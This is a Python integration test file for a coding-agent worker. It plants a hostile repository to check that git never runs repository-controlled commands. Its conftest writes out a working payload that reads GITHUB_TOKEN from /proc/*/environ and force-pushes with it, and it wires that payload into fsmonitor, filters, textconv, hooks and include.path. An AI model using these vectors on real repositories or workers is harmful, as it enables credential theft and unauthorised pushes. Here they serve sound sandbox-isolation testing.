"""A repository whose own test code attacks the worker through git, run the ways a workspace's
commands run: the first test run of `code.open_workspace` (acquire, then `code.run_tests`),
`code.run`, and a repair loop's verify. Its conftest plants everything git would obey —
`core.fsmonitor`, a clean filter named by `.gitattributes`, a textconv driver, hooks, an
`include.path`, a `.git` of its own, a nested repository — each set to a command that marks a
file only the worker can reach, dumps the worker's environment and pushes with its token.
Afterwards the worker has diffed the workspace many times; nothing may have run."""

from __future__ import annotations

import uuid
from pathlib import Path

import pytest
from pydantic import SecretStr
from temporalio.client import Client
from temporalio.testing import ActivityEnvironment

from activities import runtime as activity_runtime
from activities.loops import workspace
from activities.loops.host import configure_host
from activities.loops.loop_activities import acquire_workspace
from activities.loops.sandbox import sandbox_problem
from activities.tools.code_activities import run_code_tool
from config.settings import Settings
from tests.fakes.git_http import FakeGitHost
from tests.integration.loop_env import PYTEST, TOKEN, loop_world, project_with
from workflows.code_types import CodeSetup, CodeToolInput
from workflows.loop_types import AcquireRequest, Limits, LoopStatus, RepoSource, Sandbox, Step
from workflows.types import MemoryScopeRef, SurfaceContext, ToolCallInput

CONTEXT = SurfaceContext(surface="github", channel="acme/demo", user="U1", thread="1")
MEMORY = MemoryScopeRef("ws", "coder", "channel", "github:acme/demo", "offline/hash", 30)

CONFTEST = """
import os, pathlib, shutil, subprocess

ROOT = pathlib.Path(__file__).resolve().parent
(ROOT / "evil.sh").write_text({attack!r})
PAYLOAD = "sh " + str(ROOT / "evil.sh")


def attempt(*argv, text=None, path=None):
    try:
        if path is not None:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
            path.chmod(0o755)
        else:
            subprocess.run(argv, cwd=ROOT, check=False, capture_output=True)
    except Exception:
        pass


attempt("git", "config", "core.fsmonitor", PAYLOAD)
attempt(text="* filter=evil diff=evil\\n", path=ROOT / ".gitattributes")
attempt("git", "config", "filter.evil.clean", PAYLOAD)
attempt("git", "config", "filter.evil.required", "true")
attempt("git", "config", "diff.evil.textconv", PAYLOAD)
attempt("git", "config", "core.sshCommand", PAYLOAD)
attempt(text="[core]\\n\\tfsmonitor = " + PAYLOAD + "\\n", path=ROOT / "evil.cfg")
attempt("git", "config", "include.path", str(ROOT / "evil.cfg"))
for hook in ("pre-commit", "post-index-change", "reference-transaction", "post-checkout"):
    attempt(text="#!/bin/sh\\n" + PAYLOAD + "\\n", path=ROOT / ".git" / "hooks" / hook)
if not os.access(ROOT / ".git" / "config", os.W_OK):
    try:  # a .git of its own in place of the one it was given
        shutil.move(str(ROOT / ".git"), str(ROOT / ".git-away"))
    except Exception:
        pass
    attempt(text="[core]\\n\\tfsmonitor = " + PAYLOAD + "\\n", path=ROOT / ".git" / "config")
attempt("git", "init", "-q", "nested")
who = ("-c", "user.name=x", "-c", "user.email=x@x")
attempt("git", "-C", "nested", *who, "commit", "-q", "--allow-empty", "-m", "x")
attempt("git", "-C", "nested", "config", "core.fsmonitor", PAYLOAD)
attempt(text="planted\\n", path=ROOT / "nested" / "file.txt")
attempt(text="changed\\n", path=ROOT / "touched.txt")
"""


def hostile_project(tmp_path: Path, marker: Path, git_url: str) -> Path:
    # What a planted command would do on the worker: leave a mark, take the worker's token
    # from its environment (any process of its user reads /proc/*/environ), push with it,
    # then behave (a clean filter passes its input through) so nothing looks wrong.
    attack = (
        f"touch {marker}; env > {marker}.env\n"
        "token=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' "
        "| sed -n 's/^GITHUB_TOKEN=//p' | head -1)\n"
        'git -c http.extraHeader="Authorization: Basic $(printf x:$token | base64 -w0)" '
        f"push --quiet --force {git_url} HEAD:refs/heads/main >/dev/null 2>&1\n"
        "cat\n"
    )
    return project_with(tmp_path, **{"conftest.py": CONFTEST.format(attack=attack)})


def escaped(marker: Path) -> bool:
    return marker.exists() or Path(f"{marker}.env").exists()


def pushes(git: FakeGitHost) -> list[str]:
    return [path for _, path, _ in git.requests if "receive-pack" in path]


def code_call(task_id: str, step: int, tool: str, **arguments: object) -> ToolCallInput:
    return ToolCallInput.for_call(task_id, step, f"call-{step}", tool, arguments, CONTEXT, MEMORY)


@pytest.fixture
def worker_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)  # the one the fake git host takes


@pytest.mark.usefixtures("worker_secrets")
async def test_open_workspace_run_tests_and_run_never_let_the_repository_run_git_code_on_the_worker(
    db_settings: Settings, tmp_path: Path
) -> None:
    assert sandbox_problem() is None, sandbox_problem()
    marker = tmp_path / "escaped"
    git = FakeGitHost(tmp_path / "git", token=TOKEN).start()
    try:
        repo = f"acme/hostile-{uuid.uuid4().hex[:6]}"
        git.make_repo(repo, hostile_project(tmp_path, marker, f"{git.url}/{repo}.git"))
        update = {"github_git_url": git.url, "github_token": SecretStr(TOKEN)}
        activity_runtime.configure(db_settings.model_copy(update=update))
        host = configure_host(tmp_path / "workspaces", name=f"hostile-{uuid.uuid4().hex[:6]}")
        task_id = f"task-hostile-{uuid.uuid4().hex[:8]}"
        handle = await ActivityEnvironment().run(
            acquire_workspace, AcquireRequest(loop_id=task_id, repo=RepoSource(github=repo, base="main"))
        )
        assert handle.worker == host.name
        setup = CodeSetup(
            repo=RepoSource(github=repo),
            verify=PYTEST,
            limits=Limits(command_timeout_s=60, stall_timeout_s=30, memory_mb=1024),
            sandbox=Sandbox(),
        )
        for step, tool in enumerate(["code.run_tests", "code.run_tests", "code.diff"], start=1):
            inp = CodeToolInput(call=code_call(task_id, step, tool), workspace=handle, setup=setup)
            done = await ActivityEnvironment().run(run_code_tool, inp)
            assert done.result.ok, done.result.output
        run = CodeToolInput(
            call=code_call(task_id, 9, "code.run", command=PYTEST), workspace=handle, setup=setup
        )
        done = await ActivityEnvironment().run(run_code_tool, run)
        assert done.diff is not None and done.diff.files_changed >= 1  # the diff was taken
    finally:
        git.stop()
    assert not escaped(marker)
    assert pushes(git) == []


@pytest.mark.usefixtures("worker_secrets")
async def test_a_loop_s_verify_never_lets_the_repository_run_git_code_on_the_worker(
    client: Client, pg_url: str, tmp_path: Path
) -> None:
    marker = tmp_path / "escaped"
    project = hostile_project(tmp_path, marker, "http://127.0.0.1:9/none.git")
    async with loop_world(client, pg_url, tmp_path, project) as world:
        limits = Limits(total_rounds=2, command_timeout_s=60, stall_timeout_s=30, memory_mb=1024)
        spec = world.spec({Step.FIX: "echo fixing > fixed.txt", Step.VERIFY: PYTEST}, limits=limits)
        _, result = await world.run(spec)
        pushed = pushes(world.git)
    assert result.status is not LoopStatus.ERROR, result.reason
    assert not escaped(marker)
    assert pushed == []


async def test_a_nested_repository_with_no_commit_cannot_stop_the_workspace_s_diff(tmp_path: Path) -> None:
    path = tmp_path / "workspaces" / "loop" / "repo"
    base = await workspace.copy_local(project_with(tmp_path), path)
    await workspace.git(path, "init", "--quiet", "empty")  # a repository with no commit
    (path / "empty" / "file.txt").write_text("inside\n")
    (path / "calc.py").write_text("changed\n")
    patch = (await workspace.diff(path, base)).decode()
    assert "calc.py" in patch and "empty" not in patch
